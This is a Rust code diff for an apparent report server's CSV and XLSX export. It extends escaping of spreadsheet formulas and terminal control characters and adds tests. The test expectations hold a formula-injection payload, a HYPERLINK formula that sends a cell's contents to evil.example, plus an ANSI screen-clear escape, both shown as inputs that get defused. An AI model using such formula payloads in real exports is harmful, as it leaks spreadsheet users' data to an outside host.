@@ -12,6 +12,7 @@ use std::path::Path;
 use chrono::{NaiveDate, NaiveDateTime};
 use fieldreport_protocol::period::Period;
 use fieldreport_protocol::report::Lang;
+use fieldreport_protocol::text::neutral;
 use rust_xlsxwriter::{Format, Workbook, Worksheet};
 
 use crate::error::{Result, ServerError};
@@ -157,10 +158,11 @@ impl<W: Write> Sink for CsvSink<W> {
 /// link that sends the sheet away, say), so it gets a leading `'` (OWASP's advice). XLSX cells
 /// are typed as text and need nothing.
 fn defused(s: &str) -> String {
+    let s = neutral(s);
     if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
         format!("'{s}")
     } else {
-        s.to_string()
+        s.into_owned()
     }
 }
 
@@ -226,7 +228,7 @@ impl Sink for XlsxSink {
         for (i, c) in cells.iter().enumerate() {
             let col = i as u16;
             match c {
-                Cell::Text(s) => sheet.write_string(r, col, s).map(|_| ()),
+                Cell::Text(s) => sheet.write_string(r, col, neutral(s)).map(|_| ()),
                 Cell::Number(n) => sheet.write_number(r, col, *n).map(|_| ()),
                 Cell::Money(n) => sheet.write_number_with_format(r, col, *n, &money).map(|_| ()),
                 Cell::Percent(n) => sheet.write_number_with_format(r, col, *n, &percent).map(|_| ()),
@@ -278,6 +280,7 @@ mod tests {
             Cell::Text("@SUM(1+1)".into()),
             Cell::Text("-2+3".into()),
             Cell::Text("拜访上海华为".into()),
+            Cell::Text("张伟\u{1b}[2J".into()),
             Cell::Number(-5.0),
         ];
         sink.row(&cells).unwrap();
@@ -288,7 +291,14 @@ mod tests {
         let row: Vec<String> = read.records().next().unwrap().unwrap().iter().map(String::from).collect();
         assert_eq!(
             row,
-            ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"看\")", "'@SUM(1+1)", "'-2+3", "拜访上海华为", "-5"]
+            [
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"看\")",
+                "'@SUM(1+1)",
+                "'-2+3",
+                "拜访上海华为",
+                "张伟␛[2J",
+                "-5"
+            ]
         );
     }
 }
